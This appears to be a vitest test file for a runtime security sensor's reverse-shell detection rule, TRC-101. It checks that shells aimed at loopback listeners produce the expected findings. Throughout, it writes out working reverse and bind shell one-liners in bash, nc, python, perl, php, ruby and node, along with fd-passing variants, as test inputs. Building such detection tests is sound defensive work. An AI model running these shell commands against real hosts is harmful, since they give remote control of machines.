/**
 * Real reverse shells against loopback listeners, through the real sensor and two engines fed
 * the same events: sockeye's built-in rules as they come (TRC-101's precise profile) and with
 * TRC-101's "tracee" profile. Each shell must give exactly one precise finding (one socket,
 * one finding) with the right address, port, fd and process, and a tracee finding too; the
 * syscall-level cases that put a socket on stdio and run nothing on it are Tracee's verdicts
 * only; bind shells and sockets that reach a shell's stdin without any dup (SCM_RIGHTS,
 * pidfd_getfd) are caught by the precise profile; real negatives stay silent in both.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Engine, Finding } from "sockeye";
import net from "node:net";
import { PYTHON, Session, TwoProfiles, freePort, kernelTier, run, tcpListener, udpListener } from "./harness.js";


const tier = kernelTier();

const shellCatcher = (host: string) => tcpListener(host, "exit\n");

interface Trc101Finding extends Finding {
  finding: { "IP address": string; Port: string; "File descriptor": number };
  destination: { ip: string; port: number };
  network: { direction: string };
  sockeye: Finding["sockeye"] & { profile: string; verdict?: { reason: string } };
}

describe.runIf(tier.run)("kernel: TRC-101 on real reverse shells", () => {
  let session: Session;
  let profiles: TwoProfiles<Trc101Finding>;
  let engine: Engine;
  let traceeEngine: Engine;
  let findings: Trc101Finding[];
  let traceeFindings: Trc101Finding[];

  beforeAll(async () => {
    session = await Session.open();
    profiles = new TwoProfiles(session);
    ({ preciseEngine: engine, traceeEngine, precise: findings, tracee: traceeFindings } = profiles);
  });
  afterAll(() => session?.close());

  const forPort = (list: Trc101Finding[], port: number) =>
    list.filter((f) => f.rule.id === "TRC-101" && f.finding.Port === String(port));
  const trc101For = (port: number) => forPort(findings, port);
  const traceeFor = (port: number) => forPort(traceeFindings, port);

  const shells: { name: string; host?: string; cmd: (h: string, p: number) => string; names: string[] }[] = [
    { name: "bash -i >& /dev/tcp (IPv4)", cmd: (h, p) => `bash -i >& /dev/tcp/${h}/${p} 0>&1`, names: ["bash"] },
    { name: "bash -i >& /dev/tcp (::1)", host: "::1", cmd: (h, p) => `bash -i >& /dev/tcp/${h}/${p} 0>&1`, names: ["bash"] },
    // The finding is about the shell that runs on the socket, not the nc that put it there.
    { name: "nc.traditional -e", cmd: (h, p) => `nc.traditional -e /bin/sh ${h} ${p}`, names: ["sh"] },
    {
      name: "python3 os.dup2 + pty.spawn",
      cmd: (h, p) => `/usr/bin/python3 -c 'import socket,os,pty;s=socket.create_connection(("${h}",${p}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
      names: ["python3"],
    },
    {
      name: "perl open(STDIN, >&S)",
      cmd: (h, p) => `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${p},inet_aton("${h}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`,
      names: ["perl"],
    },
    {
      name: "php proc_open with the socket as stdio",
      cmd: (h, p) => `php -r '$s=fsockopen("${h}",${p});$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);'`,
      names: ["php", "sh"],
    },
    {
      name: "ruby TCPSocket + exec with redirections",
      cmd: (h, p) => `ruby -rsocket -e 's=TCPSocket.open("${h}",${p});exec("/bin/sh","-i",:in=>s,:out=>s,:err=>s)'`,
      names: ["ruby", "sh"],
    },
    {
      name: "node child_process.spawn with the socket as stdio",
      cmd: (h, p) => `${process.execPath} -e 'const s=require("net").connect(${p},"${h}",()=>{require("child_process").spawn("/bin/sh",[],{stdio:[s,s,s]}).on("exit",()=>process.exit(0))})'`,
      names: ["node", "sh"],
    },
  ];

  for (const shell of shells) {
    it(shell.name, async () => {
      const host = shell.host ?? "127.0.0.1";
      const catcher = await shellCatcher(host);
      try {
        const r = await run("timeout", ["-s", "KILL", "5", "bash", "-c", shell.cmd(host, catcher.port)]);
        expect(r.status, r.stderr).not.toBe(137);
        await session.settle();
        const found = trc101For(catcher.port);
        expect(found.length).toBeGreaterThanOrEqual(1);
        const f = found[0]!;
        expect(f.finding["IP address"]).toBe(host);
        expect([0, 1, 2]).toContain(f.finding["File descriptor"]);
        expect(shell.names).toContain(f.process.name);
        expect(f.destination.port).toBe(catcher.port);
      } finally {
        await catcher.close();
      }
    });
  }

  // A socket put on stdio with nothing run on it: the syscall paths Tracee's rule watches. The
  // tracee profile reports each (its verdict, kept); the precise one holds them until the
  // process exits and counts them as no_program, since no shell ever ran on the socket.
  const onStdioOnly: { name: string; cmd: (h: string, p: number) => string }[] = [
    {
      name: "python os.dup onto a closed fd 0",
      cmd: (h, p) => `/usr/bin/python3 -c 'import socket,os;s=socket.create_connection(("${h}",${p}));os.close(0);os.dup(s.fileno())'`,
    },
    {
      name: "python os.dup2(..., inheritable=False) (dup3)",
      cmd: (h, p) => `/usr/bin/python3 -c 'import socket,os;s=socket.create_connection(("${h}",${p}));os.dup2(s.fileno(),1,inheritable=False)'`,
    },
    {
      name: "python fcntl(F_DUPFD)",
      cmd: (h, p) => `/usr/bin/python3 -c 'import socket,os,fcntl;s=socket.create_connection(("${h}",${p}));os.close(2);fcntl.fcntl(s.fileno(),fcntl.F_DUPFD,0)'`,
    },
    {
      name: "a process that closes fd 0 and connects a socket there",
      cmd: (h, p) => `/usr/bin/python3 -c 'import socket,os;os.close(0);s=socket.socket();assert s.fileno()==0;s.connect(("${h}",${p}))'`,
    },
  ];
  for (const c of onStdioOnly) {
    it(`${c.name}: a finding in the tracee profile, held and counted as no_program in the precise one`, async () => {
      const catcher = await shellCatcher("127.0.0.1");
      try {
        const suppressedBefore = engine.stats().suppressedByRule["TRC-101"]?.["no_program"] ?? 0;
        const r = await run("timeout", ["-s", "KILL", "5", "bash", "-c", c.cmd("127.0.0.1", catcher.port)]);
        expect(r.status, r.stderr).toBe(0);
        await session.settle();
        const tracee = traceeFor(catcher.port);
        expect(tracee).toHaveLength(1);
        expect(tracee[0]!.process.name).toBe("python3");
        expect(trc101For(catcher.port)).toEqual([]);
        expect(engine.stats().suppressedByRule["TRC-101"]?.["no_program"] ?? 0).toBeGreaterThan(suppressedBefore);
      } finally {
        await catcher.close();
      }
    });
  }

  it("bash -i >& /dev/udp", async () => {
    const udp = await udpListener();
    try {
      await run("timeout", ["-s", "KILL", "1", "bash", "-c", `bash -i >& /dev/udp/127.0.0.1/${udp.port} 0>&1`]);
      await session.settle();
      const found = trc101For(udp.port);
      expect(found).toHaveLength(1);
      expect(found[0]!.finding["IP address"]).toBe("127.0.0.1");
    } finally {
      await udp.close();
    }
  });

  it("one bash reverse shell: one finding in the precise profile, one per process and socket in the tracee one", async () => {
    const catcher = await shellCatcher("127.0.0.1");
    try {
      const r = await run("timeout", ["-s", "KILL", "5", "bash", "-c", `bash -c 'exec 0<&- ; exec 3<>/dev/tcp/127.0.0.1/${catcher.port}; exec 0<&3 1>&3 2>&3; sleep 0.2'`]);
      expect(r.status).toBe(0);
      await session.settle();
      expect(trc101For(catcher.port)).toHaveLength(1);
      expect(engine.stats().folded).toBeGreaterThan(0);
      const perProcess = new Map<number, number>();
      for (const f of traceeFor(catcher.port)) {
        const pid = f.process.pid;
        perProcess.set(pid, (perProcess.get(pid) ?? 0) + 1);
      }
      expect(perProcess.size).toBeGreaterThanOrEqual(1);
      for (const n of perProcess.values()) expect(n).toBe(1);
      expect(traceeEngine.stats().folded).toBeGreaterThan(0);
    } finally {
      await catcher.close();
    }
  });

  it("negatives stay silent: plain nc client, python client, socket onto fd 5, file onto fd 1, socketpair on stdio", async () => {
    const catcher = await shellCatcher("127.0.0.1");
    const p = catcher.port;
    try {
      const before = findings.length;
      const traceeBefore = traceeFindings.length;
      await run("timeout", ["-s", "KILL", "3", "nc.traditional", "-q", "0", "127.0.0.1", String(p)], "hello\n");
      await run("/usr/bin/python3", ["-c", `import socket,os;s=socket.create_connection(("127.0.0.1",${p}));s.sendall(b"x");os.dup2(s.fileno(),5);f=os.open("/etc/hostname",os.O_RDONLY);os.dup2(f,1);a,b=socket.socketpair();os.dup2(a.fileno(),0);os.dup2(a.fileno(),1)`]);
      await session.settle();
      expect(findings.slice(before)).toEqual([]);
      expect(traceeFindings.slice(traceeBefore)).toEqual([]);
    } finally {
      await catcher.close();
    }
  });

  /** Connects to a bind shell at `port`, sends `exit`, and waits for it to hang up. */
  async function knock(port: number): Promise<void> {
    for (let attempt = 0; attempt < 50; attempt++) {
      const ok = await new Promise<boolean>((resolve) => {
        const c = net.connect(port, "127.0.0.1", () => c.end("exit\n"));
        c.on("error", () => resolve(false));
        c.on("close", (hadError) => resolve(!hadError));
        c.resume();
      });
      if (ok) return;
      await new Promise((r) => setTimeout(r, 100));
    }
    throw new Error(`bind shell on port ${port} never answered`);
  }

  const bindShells: { name: string; cmd: (port: number) => string }[] = [
    { name: "nc.traditional -l -e /bin/sh", cmd: (port) => `nc.traditional -l -s 127.0.0.1 -p ${port} -e /bin/sh` },
    {
      name: "a python accept loop that dup2s the connection and spawns /bin/sh",
      cmd: (port) => `/usr/bin/python3 -c 'import socket,os,subprocess;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(("127.0.0.1",${port}));s.listen(1);c,_=s.accept();[os.dup2(c.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`,
    },
  ];
  for (const b of bindShells) {
    it(`bind shell: ${b.name} gives one ingress finding with the bind-shell verdict`, async () => {
      const port = await freePort();
      const shell = run("timeout", ["-s", "KILL", "5", "bash", "-c", b.cmd(port)]);
      await knock(port);
      await shell;
      await session.settle();
      const found = findings.filter((f) => f.rule.id === "TRC-101" && f.destination?.port === port);
      expect(found).toHaveLength(1);
      expect(found[0]).toMatchObject({ network: { direction: "ingress" }, sockeye: { verdict: { reason: "bind_shell" } }, event: { severity: 99 } });
      expect(found[0]!.process.name).toBe("sh");
    });
  }

  // A socket that reaches a shell's stdin without a dup or a connect on stdio: only the
  // exec-time record sees it (the tracee profile, which watches those syscalls, cannot).
  const noDup: { name: string; code: (port: number) => string }[] = [
    {
      name: "received over SCM_RIGHTS onto fds 0 and 1",
      code: (port) => `import socket,os
a,b=socket.socketpair()
if os.fork()==0:
    c=socket.create_connection(("127.0.0.1",${port}))
    socket.send_fds(a,[b"x"],[c.fileno(),c.fileno()])
    os._exit(0)
os.close(0); os.close(1)
msg,fds,_,_=socket.recv_fds(b,1,2)
assert fds==[0,1], fds
os.set_inheritable(0,True); os.set_inheritable(1,True)
os.execv("/bin/sh",["sh"])`,
    },
    {
      name: "taken from another process with pidfd_getfd onto fd 0",
      code: (port) => `import socket,os,ctypes,time
r,w=os.pipe()
pid=os.fork()
if pid==0:
    c=socket.create_connection(("127.0.0.1",${port}))
    os.write(w,str(c.fileno()).encode()); time.sleep(5); os._exit(0)
target=int(os.read(r,16))
pidfd=os.pidfd_open(pid)
os.close(0)
fd=ctypes.CDLL(None,use_errno=True).syscall(438,pidfd,target,0)
assert fd==0, (fd, ctypes.get_errno())
os.set_inheritable(0,True)
os.execv("/bin/sh",["sh"])`,
    },
  ];
  for (const c of noDup) {
    it(`a socket ${c.name}: the shell it starts is caught, with no dup or connect on stdio`, async () => {
      const catcher = await shellCatcher("127.0.0.1");
      try {
        const r = await run("timeout", ["-s", "KILL", "5", PYTHON, "-c", c.code(catcher.port)]);
        expect(r.stderr).toBe("");
        await session.settle();
        const found = trc101For(catcher.port);
        expect(found).toHaveLength(1);
        expect(found[0]).toMatchObject({ process: { name: "sh" }, finding: { "File descriptor": 0 }, sockeye: { verdict: { reason: "shell_on_socket" } } });
        expect(traceeFor(catcher.port)).toEqual([]);
      } finally {
        await catcher.close();
      }
    });
  }
});
